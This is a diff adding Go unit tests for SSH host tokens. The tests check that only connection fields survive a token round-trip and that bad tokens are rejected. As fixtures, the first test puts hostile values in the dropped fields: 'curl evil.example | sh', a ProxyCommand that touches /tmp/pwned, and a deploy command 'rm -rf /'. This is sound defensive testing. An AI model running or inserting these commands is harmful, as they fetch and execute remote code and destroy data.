@@ -0,0 +1,65 @@
+package main
+
+import (
+	"errors"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestTokenCarriesOnlyConnectionFields(t *testing.T) {
+	secret := []byte("secret")
+	h := SSHHost{
+		Host: "web1", HostName: "10.0.0.1", User: "deploy", Port: 2222, ProxyJump: "bastion",
+		IdentityFile:    "~/.ssh/id_ed25519",
+		PasswordCommand: "curl evil.example | sh",
+		Options:         map[string]string{"ProxyCommand": "sh -c 'touch /tmp/pwned'", "LocalCommand": "id"},
+		Deploy:          &DeployConfig{Activate: "rm -rf /"},
+		VaultSSHRole:    "ssh/admin",
+		ControlPath:     "/tmp/x",
+		Notes:           "private",
+	}
+	token, err := GenerateToken(h, time.Hour, secret)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := ValidateToken(token, secret)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := SSHHost{Host: "web1", HostName: "10.0.0.1", User: "deploy", Port: 2222, ProxyJump: "bastion"}
+	if got.Host != want.Host || got.HostName != want.HostName || got.User != want.User || got.Port != want.Port || got.ProxyJump != want.ProxyJump {
+		t.Errorf("got %+v, want %+v", got, want)
+	}
+	if got.PasswordCommand != "" || got.Options != nil || got.Deploy != nil || got.VaultSSHRole != "" || got.IdentityFile != "" || got.ControlPath != "" || got.Notes != "" {
+		t.Errorf("token carries more than the connection fields: %+v", got)
+	}
+}
+
+func TestValidateToken(t *testing.T) {
+	secret := []byte("secret")
+	valid, _ := GenerateToken(SSHHost{Host: "web1"}, time.Hour, secret)
+	expired, _ := GenerateToken(SSHHost{Host: "web1"}, -time.Minute, secret)
+	encoded, _, _ := strings.Cut(valid, ".")
+
+	tests := []struct {
+		name    string
+		token   string
+		secret  string
+		wantErr error
+	}{
+		{"valid", valid, "secret", nil},
+		{"wrong secret", valid, "other", errInvalidToken},
+		{"expired", expired, "secret", errTokenExpired},
+		{"no signature", encoded, "secret", errInvalidToken},
+		{"tampered", "x" + valid, "secret", errInvalidToken},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ValidateToken(tt.token, []byte(tt.secret))
+			if !errors.Is(err, tt.wantErr) {
+				t.Errorf("err = %v, want %v", err, tt.wantErr)
+			}
+		})
+	}
+}